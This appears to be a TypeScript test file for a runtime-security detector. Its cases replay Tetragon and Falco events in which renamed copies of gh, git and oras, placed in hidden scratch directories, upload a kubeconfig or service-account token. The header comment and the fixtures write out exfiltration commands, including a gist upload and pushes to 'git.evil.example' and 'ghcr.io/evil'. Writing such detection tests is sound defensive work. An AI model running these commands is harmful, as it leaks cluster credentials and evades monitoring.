/**
 * A forge or registry client copied under another name into a scratch or hidden directory (red-team review):
 * `cp "$(command -v gh)" /tmp/.x/kworker; /tmp/.x/kworker gist create ~/.kube/config` sends a few KiB, far
 * under the egress threshold, and no entry knew the name, so nothing was raised, where a copy of curl doing
 * the same was already `high`. Checked as exported Tetragon and Falco JSON lines through the real scan path;
 * kept out of the scenario library (the bench's workload).
 */
import { describe, expect, it } from 'vitest';
import type { SensorForm } from '../../src/scenarios/index.js';
import { briefOf, inlineScenario, runInlineScenario } from './harness.js';

interface Copied {
  name: string;
  binary: string;
  args: string;
  secret: string;
  to: string;
  port?: number;
}

function scenarioOf(c: Copied) {
  const dns = { 'api.github.com': '140.82.121.6', 'ghcr.io': '140.82.121.33', 'git.evil.example': '198.51.100.9' };
  return inlineScenario(c.name, dns, [
    { at: '1s', exec: { id: 'cp', parent: 'app', binary: '/bin/cp', args: `/usr/local/bin/x ${c.binary}` } },
    { after: '5ms', exit: { proc: 'cp' } },
    { after: '500ms', exec: { id: 'x', parent: 'app', binary: c.binary, args: c.args, uid: 1000 } },
    { after: '3ms', read: { proc: 'x', path: c.secret, bytes: 5400 } },
    { after: '5ms', upload: { proc: 'x', to: `${c.to}:${c.port ?? 443}`, bytes: '9KiB', over: '400ms' } },
    { after: '10ms', exit: { proc: 'x' } },
  ]);
}

async function alertsOf(c: Copied, form: SensorForm) {
  const { alerts } = await runInlineScenario(scenarioOf(c), form);
  return alerts.map((a) => ({ ...briefOf(a), summary: a.summary }));
}

describe('a forge or registry client copied under another name', () => {
  for (const form of ['tetragon', 'falco'] as const) {
    it(`gh in a hidden scratch directory posting a kubeconfig to a gist is high (${form})`, async () => {
      const alerts = await alertsOf(
        {
          name: 'copied-gh-gist',
          binary: '/tmp/.x/kworker',
          args: 'gist create /home/app/.kube/config',
          secret: '/home/app/.kube/config',
          to: 'api.github.com',
        },
        form,
      );
      expect(alerts).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
      ]);
      expect(alerts[0]!.summary).toContain('/tmp/.x/kworker');
    });

    it(`gh copied under git's name is still gh (${form})`, async () => {
      const alerts = await alertsOf(
        {
          name: 'copied-gh-as-git',
          binary: '/tmp/.x/git',
          args: 'gist create /home/app/.kube/config',
          secret: '/home/app/.kube/config',
          to: 'api.github.com',
        },
        form,
      );
      expect(alerts).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
      ]);
    });

    it(`git copied into /dev/shm pushing over git:// (no helper, no ssh) is high (${form})`, async () => {
      const alerts = await alertsOf(
        {
          name: 'copied-git-daemon',
          binary: '/dev/shm/x',
          args: 'push git://git.evil.example/loot.git HEAD:main',
          secret: '/home/app/.kube/config',
          to: 'git.evil.example',
          port: 9418,
        },
        form,
      );
      expect(alerts).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'git.evil.example' },
      ]);
    });

    it(`oras in /dev/shm pushing a service-account token is high (${form})`, async () => {
      const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
      const alerts = await alertsOf(
        {
          name: 'copied-oras-push',
          binary: '/dev/shm/x',
          args: `push ghcr.io/evil/x:1 ${token}`,
          secret: token,
          to: 'ghcr.io',
        },
        form,
      );
      expect(alerts).toMatchObject([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'oras', destination: 'ghcr.io' },
      ]);
    });

    it(`a program of the job's own in a scratch directory copying files is quiet (${form})`, async () => {
      // `go run ./cmd/deploy copy …` runs from /tmp/go-build…/exe/: crane's `copy SRC DST` shape, but DST
      // names no registry.
      const alerts = await alertsOf(
        {
          name: 'go-run-copy-files',
          binary: '/tmp/go-build2841/b001/exe/deploy',
          args: 'copy /home/app/.kube/config build/kubeconfig',
          secret: '/home/app/.kube/config',
          to: 'api.github.com',
        },
        form,
      );
      expect(alerts).toEqual([]);
    });
  }
});
